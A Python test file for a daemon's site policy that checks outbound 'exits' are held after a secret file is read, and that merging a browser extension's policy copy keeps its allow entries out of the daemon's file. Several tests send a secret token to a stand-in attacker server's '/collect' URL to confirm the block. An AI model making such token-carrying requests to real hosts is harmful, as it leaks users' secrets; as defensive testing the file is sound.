"""Issue 23 review: the site policy's allow list and the exit rule. In the default mode (every site except the
deny list) the allow list decides nothing about reading, so it must not vouch for exits either; and a merge of
two copies edited apart must not slip the browser copy's allow entries into the daemon's file, where they would
become the list in force the day the user switches modes. Real daemon, real sockets: the extension's copy
arrives through the daemon's own ``policy`` frame handler (what the browser link calls for a frame)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from trawl.browser.install import browser_link
from trawl.browser.policy_merge import describe_merge, merge
from trawl.policy import SitePolicy
from trawl.server.runner import RunningDaemon

from tests.integration.test_daemon_helpers import daemon_settings
from tests.security.test_exits import TOKEN, Server, fetch
from tests.security.test_exits import attacker as attacker  # the fixture

SECRET_FILE = f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n"


def _policy_file(tmp_path: Path, policy: dict[str, Any]) -> Path:
    state = tmp_path / "state"
    state.mkdir(mode=0o700, exist_ok=True)
    path = state / "site-policy.json"
    path.write_text(json.dumps(policy))
    return path


async def test_an_allow_entry_in_the_default_mode_does_not_vouch_for_exits(tmp_path: Path,
                                                                          attacker: Server) -> None:
    # The user (or a leftover from the other mode) has the attacker's host on an allow list that reads nothing.
    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    _policy_file(tmp_path, {"mode": "allow_all_except_denied", "allow": ["127.0.0.1"], "deny": []})
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
        body = await fetch(d, f"{attacker.url}/collect?k={TOKEN[::-1]}")
        assert body["error"]["code"] == "exit_held", body
    assert attacker.hits == []


async def test_the_extension_copys_allow_entries_are_not_merged_into_the_file(tmp_path: Path,
                                                                             attacker: Server) -> None:
    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    path = _policy_file(tmp_path, {"mode": "allow_all_except_denied", "allow": ["docs.example"],
                                   "deny": ["bank.example"]})
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False,
                             extra_routes=[browser_link]) as d:
        on_policy = d.state.services.extras["browser_hub"].frame_handlers["policy"]
        # The browser's copy, edited apart (no base): it names the attacker's host on its allow list.
        await on_policy({"type": "policy", "mode": "allow_all_except_denied", "allow": ["127.0.0.1"],
                         "deny": ["mail.example"], "revision": 10**13, "base": ""})
        on_file = json.loads(path.read_text())
        assert set(on_file["deny"]) == {"bank.example", "mail.example"}, on_file  # deny still wins
        assert on_file["allow"] == ["docs.example"], on_file  # nothing slipped in from the other side
        assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
        held = await fetch(d, f"{attacker.url}/collect?k={TOKEN}x")
        assert held["error"]["code"] == "exit_held", held
        # The user switches to "only the allow list": the list in force is the one they wrote in the file.
        path.write_text(json.dumps({**on_file, "mode": "deny_all_except_allowed"}))
        still = await fetch(d, f"{attacker.url}/collect?k={TOKEN}y")
        assert still["error"]["code"] == "blocked_by_policy", still
    assert attacker.hits == []


async def test_an_allow_list_in_force_vouches(tmp_path: Path, attacker: Server) -> None:
    # The contrast that shows the rule is about the mode: the same entry, in the mode where it decides reading.
    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    _policy_file(tmp_path, {"mode": "deny_all_except_allowed", "allow": ["127.0.0.1"], "deny": []})
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
        body = await fetch(d, f"{attacker.url}/collect?k=1")
        assert body["ok"] is True, body
    assert attacker.hits == ["/collect?k=1"]


def test_the_merge_says_which_allow_entries_it_left_out() -> None:
    ours = SitePolicy(allow=("a.example",), deny=("x.example",))
    theirs = SitePolicy(allow=("a.example", "b.example"), deny=("y.example",))
    merged = merge(ours, theirs)
    assert merged.allow == ("a.example",) and merged.deny == ("x.example", "y.example")
    assert "b.example" in describe_merge(ours, theirs, merged)
